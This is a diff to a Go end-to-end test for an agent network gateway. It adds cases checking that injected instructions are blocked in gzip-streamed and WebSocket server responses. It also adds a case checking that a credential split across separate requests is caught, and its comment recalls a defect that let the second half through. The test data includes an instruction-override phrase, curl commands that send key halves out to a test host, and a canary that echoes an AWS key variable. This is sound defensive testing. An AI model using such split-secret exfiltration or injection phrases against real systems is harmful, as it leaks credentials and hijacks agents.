@@ -3,6 +3,7 @@ package e2e
 import (
 	"bufio"
 	"bytes"
+	"compress/gzip"
 	"crypto/sha1"
 	"encoding/base32"
 	"encoding/base64"
@@ -19,6 +20,7 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"time"
 
 	"github.com/airlock-dev/airlock/audit"
 )
@@ -67,7 +69,7 @@ func (c *covWitness) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	fmt.Fprintf(&head, "%s %s\n", r.Method, r.URL.RequestURI())
 	r.Header.Write(&head)
 	c.add(r.URL.Path, head.Bytes())
-	if r.URL.Path == "/ws" || r.URL.Path == "/ws-benign" {
+	if r.URL.Path == "/ws" || r.URL.Path == "/ws-benign" || r.URL.Path == "/ws-down-block" {
 		c.websocket(w, r)
 		return
 	}
@@ -85,6 +87,18 @@ func (c *covWitness) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 		sse("data: {\"delta\":\"benign first\"}\n\n", "data: {\"delta\":\""+covInj+"\"}\n\n", "data: {\"delta\":\""+covAfter+"\"}\n\n")
 	case "/sse-benign":
 		sse(`data: {"choices":[{"delta":{"content":"Here is the refactored function."}}]}`+"\n\n", "data: [DONE]\n\n")
+	case "/gz-block":
+		// Compressed and chunked, flushed part by part, as a streaming
+		// server sends it: read as it streams.
+		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
+		w.Header().Set("Content-Encoding", "gzip")
+		zw := gzip.NewWriter(w)
+		for _, part := range []string{"benign first\n", covInj + "\n", covAfter + "\n"} {
+			io.WriteString(zw, part)
+			zw.Flush()
+			w.(http.Flusher).Flush()
+		}
+		zw.Close()
 	case "/page-strip":
 		w.Header().Set("Content-Type", "text/html; charset=utf-8")
 		fmt.Fprint(w, "<html><body><p>Install with pip.</p><!-- "+covInj+" --><p>\u200b\u200b\u200b\u200bDone.</p></body></html>")
@@ -110,6 +124,16 @@ func (c *covWitness) websocket(w http.ResponseWriter, r *http.Request) {
 	defer conn.Close()
 	fmt.Fprintf(brw, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: %s\r\n\r\n", base64.StdEncoding.EncodeToString(sum[:]))
 	brw.Flush()
+	if r.URL.Path == "/ws-down-block" { // server messages: benign, injected, after
+		for _, m := range []string{"benign first", covInj, covAfter} {
+			brw.Write([]byte{0x81, byte(len(m))})
+			brw.WriteString(m)
+			brw.Flush()
+			time.Sleep(50 * time.Millisecond)
+		}
+		brw.Write([]byte{0x88, 2, 0x03, 0xe8})
+		brw.Flush()
+	}
 	br := bufio.NewReader(brw)
 	for {
 		var h [2]byte
@@ -165,7 +189,7 @@ allow if endswith(input.destination.host, ".` + covHost + `")
 mitm if input.destination.host == host
 
 deny contains {"id": "response_injection", "msg": "instructions injected into a response"} if {
-	input.http.path == "/sse-block"
+	input.http.path in {"/sse-block", "/gz-block", "/ws-down-block"}
 	some f in input.content.findings
 	f.class == "injection"
 	f.confidence != "low"
@@ -198,18 +222,38 @@ status = resp.split(b" ")[1].decode() if resp else "none"
 def frame(op, fin, data):
     mask = os.urandom(4)
     return bytes([(0x80 if fin else 0) | op, 0x80 | len(data)]) + mask + bytes(c ^ mask[i % 4] for i, c in enumerate(data))
+got = resp.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in resp else b""
 try:
     for i, p in enumerate(parts):
         s.sendall(frame(1 if i == 0 else 0, i == len(parts) - 1, p.encode()))
         if i == 0 and len(parts) > 1:
             import time; time.sleep(0.3)
-    s.sendall(frame(8, True, b""))
+    if parts:
+        s.sendall(frame(8, True, b""))
     s.settimeout(5)
-    while s.recv(4096):
-        pass
+    while True:
+        b = s.recv(4096)
+        if not b:
+            break
+        got += b
 except (OSError, ssl.SSLError):
     pass  # the gateway closed it: the origin's record says how far it got
 print("ws_%s=%s" % (row, status))
+# What the server's side delivered: text messages, the close code, whether
+# the message after an injected one arrived.
+texts, code, i = 0, 0, 0
+while i + 2 <= len(got):
+    op, n, i = got[i] & 0x0f, got[i + 1] & 0x7f, i + 2
+    if n == 126:
+        n, i = int.from_bytes(got[i:i + 2], "big"), i + 2
+    elif n == 127:
+        n, i = int.from_bytes(got[i:i + 8], "big"), i + 8
+    payload, i = got[i:i + n], i + n
+    if op == 1:
+        texts += 1
+    if op == 8 and code == 0 and len(payload) >= 2:
+        code = int.from_bytes(payload[:2], "big")
+print("wsdown_%s=%d_%d_%d" % (row, texts, code, got.count(b"AFTER-MARK")))
 `
 
 // covRow is one detector exercised on one transport.
@@ -294,6 +338,11 @@ func TestRootInspectCoverage(t *testing.T) {
 			script: c("split_query_parameters", "--http1.1 '"+u+"/sq?a="+covKey[:10]+"&b="+covHalf+"'")},
 		{name: "split/mcp-tool-arguments", want: "block", path: "/mcp", class: "credential", secret: covHalf,
 			script: c("split_mcp_tool_arguments", "--http2 -H 'Content-Type: application/json' -d '{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"note\",\"arguments\":{\"a\":\""+covKey[:10]+"\",\"b\":\""+covHalf+"\"}}}' "+u+"/mcp")},
+		// The halves the two rows above sent together (refused), now one per
+		// request (issue 25 window defect A: the second passed).
+		{name: "split/retry-after-block", want: "block", path: "/seqB", class: "credential", secret: covHalf,
+			script: c("split_retry_first", "--http1.1 -H 'Content-Type: text/plain' -d '"+covKey[:10]+"' "+u+"/seqA") +
+				c("split_retry_after_block", "--http1.1 -H 'Content-Type: text/plain' -d '"+covHalf+"' "+u+"/seqB")},
 		// A key of its own: halves the window already keeps are no new piece.
 		{name: "split/consecutive-requests", want: "block", path: "/seq2", class: "credential", secret: covKey2[10:],
 			script: c("split_consecutive_first", "--http1.1 -H 'Content-Type: text/plain' -d '"+covKey2[:10]+"' "+u+"/seq1") +
@@ -328,6 +377,10 @@ func TestRootInspectCoverage(t *testing.T) {
 			script: "echo \"sse_flag=$(curl -sS --max-time 60 " + u + "/sse-flag | grep -c '" + covAfter + "')\"\n", got: "sse_flag=1"},
 		{name: "prompt-injection/sse-blocked-at-event", want: "block", path: "/sse-block", class: "injection",
 			script: "curl -sS --max-time 60 " + u + "/sse-block > /tmp/sse; echo \"sse_block=$(grep -c 'previous instructions\\|" + covAfter + "' /tmp/sse)_$(grep -c '^event: error' /tmp/sse)_$(grep -c 'benign first' /tmp/sse)\"\n", got: "sse_block=0_1_1"},
+		{name: "prompt-injection/gzip-stream-blocked", want: "block", path: "/gz-block", class: "injection",
+			script: "curl -sS --compressed --max-time 60 " + u + "/gz-block > /tmp/gz 2>/dev/null; echo \"gz_block=$(grep -c 'previous instructions\\|" + covAfter + "' /tmp/gz)\"\n", got: "gz_block=0"},
+		{name: "prompt-injection/websocket-server-message-blocked", want: "block", path: "/ws-down-block", class: "injection",
+			script: "python3 ws.py ws_down_block /ws-down-block\n", got: "wsdown_ws_down_block=1_1008_0"},
 		{name: "hidden-text/http1-response-stripped", want: "strip", path: "/page-strip", class: "injection",
 			script: "curl -sS --http1.1 --max-time 60 " + u + "/page-strip > /tmp/page; echo \"page_strip=$(grep -c 'previous instructions' /tmp/page)_$(grep -c 'Done.' /tmp/page)\"\n", got: "page_strip=0_1"},
 		{name: "tool-description/agent-card-response", want: "flag", path: "/agent-card", class: "injection",
@@ -343,15 +396,17 @@ func TestRootInspectCoverage(t *testing.T) {
 		{name: "benign/websocket-message", want: "pass", path: "/ws-benign",
 			script: "python3 ws.py benign_websocket_message /ws-benign 'hello from the agent'\n", got: "ws_benign_websocket_message=101"},
 	}
-	// The benign rows run in a sandbox of their own: the attack rows' pieces
-	// stay in their sandbox's window for inspect.window.
-	scripts := [2]strings.Builder{}
-	for _, r := range rows {
-		i := 0
-		if r.want == "pass" {
-			i = 1
+	// Every row runs in ONE sandbox, the benign rows last, as an agent
+	// sends them: what the sandbox's window keeps of the attacks is there
+	// when the benign requests come (issue 25 window defect B: after the
+	// attack rows, the benign LLM call was refused as a split escaped key).
+	var script strings.Builder
+	for _, want := range []bool{false, true} {
+		for _, r := range rows {
+			if (r.want == "pass") == want {
+				script.WriteString(r.script)
+			}
 		}
-		scripts[i].WriteString(r.script)
 	}
 	qBefore := map[string]int64{}
 	for _, r := range rows {
@@ -359,22 +414,21 @@ func TestRootInspectCoverage(t *testing.T) {
 			qBefore[r.qname] = w.net.Queries(r.qname)
 		}
 	}
-	var stdout string
-	var res result
-	for i := range scripts {
-		res = e.sh([]string{"--id", sandboxID("cov"), "--policy", pol, "--workspace", ws},
-			"cd "+ws+"\necho \"canary=$AWS_ACCESS_KEY_ID\"\n"+scripts[i].String())
-		wantCode(t, res, 0)
-		if i == 0 {
-			stdout = res.stdout // the canary rows' sandbox
-		} else {
-			stdout = strings.ReplaceAll(res.stdout, "canary=", "benign_canary=") + stdout
-		}
-	}
+	res := e.sh([]string{"--id", sandboxID("cov"), "--policy", pol, "--workspace", ws},
+		"cd "+ws+"\necho \"canary=$AWS_ACCESS_KEY_ID\"\n"+script.String())
+	wantCode(t, res, 0)
+	stdout := res.stdout
 	out := kv(stdout)
 	recs := e.records()
 	blocked, flagged := 0, 0
+	attacks, benign, fps := 0, 0, 0
 	for _, r := range rows {
+		if r.want == "block" {
+			attacks++
+		}
+		if r.want == "pass" {
+			benign++
+		}
 		t.Run(r.name, func(t *testing.T) {
 			qname := strings.Replace(r.qname, "CANARYHEX", out["canaryhex"], 1)
 			if r.got != "" {
@@ -424,6 +478,9 @@ func TestRootInspectCoverage(t *testing.T) {
 				}
 			default:
 				if x.Decision != audit.DecisionAllow {
+					if r.want == "pass" {
+						fps++
+					}
 					t.Errorf("got %s, want allow\n%s", x.Decision, dump(rec))
 				}
 			}
@@ -484,4 +541,6 @@ func TestRootInspectCoverage(t *testing.T) {
 		}
 	}
 	t.Logf("%d rows: %d blocked as expected, %d flagged, stripped or passed as expected", len(rows), blocked, flagged)
+	t.Logf("one sandbox: detection %d/%d block rows (%.0f%%), false positives %d/%d benign rows after them (%.0f%%)",
+		blocked, attacks, 100*float64(blocked)/float64(max(attacks, 1)), fps, benign, 100*float64(fps)/float64(max(benign, 1)))
 }
